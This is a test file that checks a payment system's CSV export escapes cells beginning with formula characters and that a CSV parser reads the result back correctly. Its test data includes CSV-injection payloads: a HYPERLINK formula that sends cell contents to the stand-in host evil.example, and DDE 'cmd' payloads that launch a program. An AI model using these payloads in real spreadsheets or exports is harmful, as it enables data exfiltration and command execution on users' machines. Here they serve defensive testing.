/** What a spreadsheet makes of central's export: no cell runs as a formula, and a real CSV parser reads it back. */
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { csvField, toCsv } from '../../../central/src/csv';
import { exportPostings } from '../../../central/src/export';
import { cashPayment, openTestCentral, post } from './helpers';

const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|"/C calc"!A0', '\t=1+1', '\r=1+1'];

describe('CSV injection (OWASP)', () => {
  it('every cell that would start a formula reads as text; plain numbers stay numbers', () => {
    for (const f of FORMULAS) expect(csvField(f).replace(/^"/, '')).toMatch(/^'/);
    expect(csvField('-12.50')).toBe('-12.50');
    expect(csvField('182.40')).toBe('182.40');
    expect(csvField('station-2')).toBe('station-2');
    const parsed = parse(toCsv([FORMULAS, ['-12.50', 'plain', '', '', '', '']])) as string[][];
    expect(parsed[0]).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(parsed[1]).toEqual(['-12.50', 'plain', '', '', '', '']);
  });

  it('a station id starting with a dash and a cashier written as a formula export as text, read by csv-parse', async () => {
    const c = await openTestCentral(0);
    try {
      const takenAt = '2026-11-22T18:00:00.000Z';
      const p = { ...cashPayment({ lines: [{ accountNumber: '1000000001', amount: '182.40' }], bills: '200.00', takenAt }), stationId: '-unit-1', cashier: '@SUM(1+1)' };
      const [result] = await post(c.app, [p]);
      expect(result?.status).toBe('posted');
      const { csv } = await exportPostings(c.db, '2026-11-22');
      const records = parse(csv, { columns: true, bom: true }) as Array<Record<string, string>>;
      expect(records).toHaveLength(1);
      expect(records[0]).toMatchObject({ station_id: `'-unit-1`, cashier: `'@SUM(1+1)`, amount: '182.40' });
    } finally {
      await c.close();
    }
  });
});
